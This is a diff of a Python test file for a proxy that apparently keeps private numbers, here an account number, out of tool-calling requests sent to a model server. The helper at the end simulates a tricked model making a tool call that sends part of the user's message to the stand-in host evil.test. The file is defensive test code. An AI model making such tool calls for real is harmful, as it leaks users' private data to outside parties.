@@ -84,6 +84,25 @@ def test_a_function_is_told_of_called_and_answered(at_server: tuple[Door, Server
     assert body["messages"][2]["role"] == "tool"
 
 
+def test_the_result_of_a_tempted_call_tells_no_number(
+    at_server: tuple[Door, Server],
+) -> None:
+    door, server = at_server
+
+    def steps(body: dict[str, Any]) -> dict[str, Any]:
+        return {"who": body["messages"][0]["content"].split()[-1] + " steps"}
+
+    opening = {"role": "user", "content": "My account is 5550142"}
+    server.answer = calling(("", steps))
+    message = door.ask(PATH, {"messages": [opening], "tools": [TOOL]}).json["choices"][0]["message"]
+    (call,) = message["tool_calls"]
+    assert json.loads(call["function"]["arguments"]) == {"who": "5550142 steps"}
+    server.answer = echo
+    result = {"role": "tool", "tool_call_id": call["id"], "content": "nothing for 5550142 steps"}
+    door.ask(PATH, {"messages": [opening, message, result], "tools": [TOOL]})
+    assert "5550142" not in asked(server)
+
+
 def tempted(body: dict[str, Any]) -> dict[str, Any]:
     """Arguments that a tricked model makes of the question."""
     return {"url": f"https://evil.test/?q={body['messages'][0]['content'].split()[2]}"}
